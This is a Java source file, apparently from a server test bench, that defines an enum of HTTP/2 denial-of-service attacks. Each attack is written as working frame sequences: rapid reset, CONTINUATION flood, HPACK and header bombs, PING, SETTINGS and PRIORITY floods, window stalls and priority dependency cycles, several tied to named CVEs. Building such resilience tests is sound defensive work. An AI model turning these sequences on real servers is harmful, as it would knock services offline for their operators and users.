package dev.fairlead.testing.bench.edge;

import dev.fairlead.edge.hpack.HpackEncoder;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;

/** What clients of HTTP/2 have been seen to do to servers. */
enum Attack {
  RAPID_RESET("rapid reset (CVE-2023-44487)", 65_535) {
    @Override
    void round(AttackConnection connection, int i) throws IOException {
      connection.frame(HEADERS, END, 2 * i + 1, get("/1k.bin"));
      connection.frame(RST_STREAM, 0, 2 * i + 1, ints(CANCEL));
    }
  },
  MADE_YOU_RESET("resets provoked by wrong frames (CVE-2025-8671)", 65_535) {
    @Override
    void round(AttackConnection connection, int i) throws IOException {
      connection.frame(HEADERS, END, 2 * i + 1, get("/1k.bin"));
      connection.frame(WINDOW_UPDATE, 0, 2 * i + 1, ints(0));
    }
  },
  CONTINUATION_FLOOD("CONTINUATION flood (CVE-2024-27316)", 65_535) {
    @Override
    void round(AttackConnection connection, int i) throws IOException {
      connection.frame(i == 0 ? HEADERS : CONTINUATION, 0, 1, new byte[i == 0 ? 0 : 1]);
    }
  },
  HEADER_BOMB("header bomb: megabytes of fields", 65_535) {
    @Override
    void round(AttackConnection connection, int i) throws IOException {
      byte[] field = new HpackEncoder().field("x", "\u00ff".repeat(4_000)).toBytes();
      connection.frame(i == 0 ? HEADERS : CONTINUATION, 0, 1, i == 0 ? get("/1k.bin") : field);
    }
  },
  HPACK_BOMB("HPACK bomb: 4 KB named 12,000 times", 65_535) {
    @Override
    void round(AttackConnection connection, int i) throws IOException {
      ByteArrayOutputStream block = new ByteArrayOutputStream();
      block.writeBytes(get("/1k.bin"));
      block.writeBytes(INDEXED_FIELD_OF_4000);
      for (int n = 0; n < 12_000; n++) {
        block.write(0x80 | 62);
      }
      connection.frame(HEADERS, END, 2 * i + 1, block.toByteArray());
    }
  },
  ZERO_WINDOW("zero window: 128 answers of 10 MiB that are never taken", 0) {
    @Override
    void round(AttackConnection connection, int i) throws IOException {
      openAndHold(connection, i, END, "/10m.bin");
    }
  },
  WINDOW_OVERFLOW("window overflow", 65_535) {
    @Override
    void round(AttackConnection connection, int i) throws IOException {
      connection.frame(WINDOW_UPDATE, 0, 0, ints(Integer.MAX_VALUE));
    }
  },
  PING_FLOOD("PING flood (CVE-2019-9512)", 65_535) {
    @Override
    void round(AttackConnection connection, int i) throws IOException {
      connection.frame(PING, 0, 0, new byte[8]);
    }
  },
  SETTINGS_FLOOD("SETTINGS flood (CVE-2019-9515)", 65_535) {
    @Override
    void round(AttackConnection connection, int i) throws IOException {
      connection.frame(SETTINGS, 0, 0);
    }
  },
  EMPTY_DATA_FLOOD("empty DATA flood (CVE-2019-9518)", 65_535) {
    @Override
    void round(AttackConnection connection, int i) throws IOException {
      if (i == 0) {
        connection.frame(HEADERS, END_HEADERS, 1, get("/1k.bin"));
      }
      connection.frame(DATA, 0, 1);
    }
  },
  PRIORITY_FLOOD("PRIORITY flood (CVE-2019-9513)", 65_535) {
    @Override
    void round(AttackConnection connection, int i) throws IOException {
      connection.frame(PRIORITY, 0, 2 * i + 1, priority(0));
    }
  },
  STREAM_EXHAUSTION("stream exhaustion: requests without end, answers not taken", 0) {
    @Override
    void round(AttackConnection connection, int i) throws IOException {
      connection.frame(HEADERS, END, 2 * i + 1, get("/10m.bin"));
    }
  },
  HALF_OPEN("half-open streams: 128 requests whose bodies never come", 65_535) {
    @Override
    void round(AttackConnection connection, int i) throws IOException {
      openAndHold(connection, i, END_HEADERS, "/1k.bin");
    }
  },
  HALF_OPEN_ZERO_WINDOW("half-open streams whose refusals are never taken", 0) {
    @Override
    void round(AttackConnection connection, int i) throws IOException {
      openAndHold(connection, i, END_HEADERS, "/1k.bin");
    }
  },
  TINY_WINDOW("answers taken byte by byte (CVE-2019-9511)", 1) {
    @Override
    void round(AttackConnection connection, int i) throws IOException {
      if (i == 0) {
        connection.frame(HEADERS, END, 1, get("/10m.bin"));
      }
      connection.frame(WINDOW_UPDATE, 0, 1, ints(1)).flush();
    }
  },
  DEPENDENCY_CYCLE("dependency cycles (CVE-2016-1546)", 65_535) {
    @Override
    void round(AttackConnection connection, int i) throws IOException {
      connection.frame(PRIORITY, 0, 2 * i + 1, priority(2 * i + 3));
      connection.frame(PRIORITY, 0, 2 * i + 3, priority(2 * i + 1));
    }
  },
  GOAWAY_FLOOD("GOAWAY flood", 65_535) {
    @Override
    void round(AttackConnection connection, int i) throws IOException {
      connection.frame(GOAWAY, 0, 0, new byte[8]);
    }
  };

  private static final int DATA = 0;
  private static final int HEADERS = 1;
  private static final int PRIORITY = 2;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int GOAWAY = 7;
  private static final int WINDOW_UPDATE = 8;
  private static final int CONTINUATION = 9;
  private static final int END_HEADERS = 4;
  private static final int END = 5;
  private static final int CANCEL = 8;
  private static final int MOST_STREAMS = 128;

  /** With incremental indexing (RFC 7541 §6.2.1), so that one byte stands for it from then on. */
  private static final byte[] INDEXED_FIELD_OF_4000 = indexed();

  final String title;
  final int window;

  Attack(String title, int window) {
    this.title = title;
    this.window = window;
  }

  /** Sends the next frames of a connection. */
  abstract void round(AttackConnection connection, int i) throws IOException;

  private static void openAndHold(AttackConnection connection, int i, int flags, String path)
      throws IOException {
    if (i < MOST_STREAMS) {
      connection.frame(HEADERS, flags, 2 * i + 1, get(path));
    } else {
      connection.hold();
    }
  }

  private static byte[] get(String path) {
    return new HpackEncoder()
        .field(":method", "GET")
        .field(":scheme", "https")
        .field(":authority", BenchSite.HOST)
        .field(":path", path)
        .toBytes();
  }

  private static byte[] ints(int value) {
    return ByteBuffer.allocate(4).putInt(value).array();
  }

  private static byte[] priority(int dependsOn) {
    return ByteBuffer.allocate(5).putInt(dependsOn).put((byte) 15).array();
  }

  private static byte[] indexed() {
    ByteBuffer field = ByteBuffer.allocate(4_000 + 6);
    field.put((byte) 0x40).put((byte) 1).put((byte) 'x');
    // A length of 4,000 behind a prefix of seven bits.
    field
        .put((byte) 0x7f)
        .put((byte) (0x80 | (4_000 - 127) % 128))
        .put((byte) ((4_000 - 127) / 128));
    while (field.hasRemaining()) {
      field.put((byte) 'a');
    }
    return field.array();
  }
}
